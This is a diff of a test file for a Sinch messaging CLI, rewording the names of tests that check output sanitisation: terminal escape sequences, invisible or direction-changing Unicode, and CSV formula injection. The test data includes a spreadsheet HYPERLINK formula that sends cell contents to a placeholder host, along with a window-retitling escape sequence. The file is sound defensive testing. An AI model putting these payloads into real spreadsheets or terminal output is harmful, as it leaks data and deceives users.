@@ -10,8 +10,8 @@ import { json } from '../support/scripted-server';
 /** Clears the screen, renames the window; and the second is one that ASCII does not know. */
 const ESCAPES = ['\u001b[2J\u001b]0;owned\u0007', '\u009b2J'];
 
-describe('a terminal is not at the mercy of what Sinch and senders write', () => {
-  it.each(ESCAPES)('where numbers are searched for (%j)', async (escape) => {
+describe('control characters in texts of Sinch and of senders do not reach the terminal', () => {
+  it.each(ESCAPES)('when numbers are searched for (%j)', async (escape) => {
     const sinch = await ScriptedSinch.start();
     sinch.answers(json(200, { availableNumbers: [{ phoneNumber: `+61${escape}`, capability: [escape] }] }));
     const env = {
@@ -31,7 +31,7 @@ describe('a terminal is not at the mercy of what Sinch and senders write', () =>
     expect(JSON.parse(asJson.out)).toMatchObject([{ phoneNumber: `+61${escape}` }]);
   });
 
-  it.each(ESCAPES)('in JSON, which says the same nevertheless (%j)', (escape) => {
+  it.each(ESCAPES)('in JSON, where they are escaped and no text is changed (%j)', (escape) => {
     const written = toJson({ reason: escape });
     expect(written).not.toMatch(/[^\P{Cc}\n]/u);
     expect(JSON.parse(written)).toEqual({ reason: escape });
@@ -59,18 +59,18 @@ const UNSEEN = [
 ];
 UNSEEN.push('\u{e0041}', '\u{1d173}', '\ud83d');
 
-describe('a character that cannot be seen, or turns the writing round,', () => {
-  it.each(UNSEEN)('is not printed: a text would show as another than it is (%j)', (unseen) => {
+describe('a character that is invisible or changes the direction of writing', () => {
+  it.each(UNSEEN)('is not printed, because a text would look like a different one (%j)', (unseen) => {
     expect(printable(`+61${unseen}${unseen}8`)).toBe('+61 8');
   });
 
-  it.each(UNSEEN)('is escaped in JSON, which says the same nevertheless (%j)', (unseen) => {
+  it.each(UNSEEN)('is escaped in JSON, which keeps the text (%j)', (unseen) => {
     const written = toJson({ [unseen]: unseen });
     expect(written).toMatch(/^[\x20-\x7e\n]*$/);
     expect(JSON.parse(written)).toEqual({ [unseen]: unseen });
   });
 
-  it('is all that is taken out: names in any script are printed as they are', () => {
+  it('is the only kind that is removed: names in any script are printed unchanged', () => {
     const seen = 'Zoë Ångström 王芳 Мария شركة ไทย 👩 +61 480 000 000';
     expect(printable(seen)).toBe(seen);
     expect(JSON.parse(toJson(seen))).toBe(seen);
@@ -105,21 +105,21 @@ describe('a spreadsheet', () => {
   ];
 
   it.each(starts.flatMap((start) => before.map((text) => [`${text}${start}HYPERLINK("http://x.example/?"&A1)`])))(
-    'runs no formula of what people have written as %j',
+    'runs no formula in a text such as %j',
     (text) => {
       const formulas = cells(toCsv([['2026', text, 'ok']])).filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
       expect(formulas).toEqual([]);
     },
   );
 
-  it('shows as it is what is no formula', () => {
+  it('shows text that is no formula unchanged', () => {
     const row = ['2026-01-31T18:00:00Z', 'ref-1', 'a=b; c', 'said "no", twice'];
     expect(toCsv([row])).toBe('2026-01-31T18:00:00Z,ref-1,a=b; c,"said ""no"", twice"\r\n');
   });
 });
 
-describe('a reader that goes away, such as head,', () => {
-  it('ends the command without complaint', async () => {
+describe('a reader that closes the pipe early, such as head,', () => {
+  it('ends the command without an error', async () => {
     const main = join(__dirname, '../../dist/src/cli/main.js');
     const child = spawn(process.execPath, [main, '--help'], { stdio: ['ignore', 'pipe', 'pipe'] });
     child.stdout.destroy();
